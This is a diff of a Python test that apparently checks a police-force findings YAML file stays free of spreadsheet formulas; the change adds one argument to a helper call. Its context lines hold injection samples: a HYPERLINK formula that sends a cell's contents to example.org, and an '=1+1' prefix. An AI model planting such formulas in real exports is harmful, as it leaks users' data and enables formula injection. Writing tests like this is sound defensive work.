@@ -16,7 +16,7 @@ LINK = '=HYPERLINK("https://example.org/?"&B3, "There") are specific occasions'
 
 
 def test_a_finding_is_no_formula_in_the_form(tmp_path: Path) -> None:
-    workspace = copy_project(tmp_path / "workspace")
+    workspace = copy_project(tmp_path / "workspace", "hertfordshire")
     findings = workspace / "data/forces/hertfordshire.yaml"
     edit(findings, "There are specific occasions", LINK)
     edit(findings, "name: Hertfordshire Constabulary", "name: =1+1 Hertfordshire Constabulary")
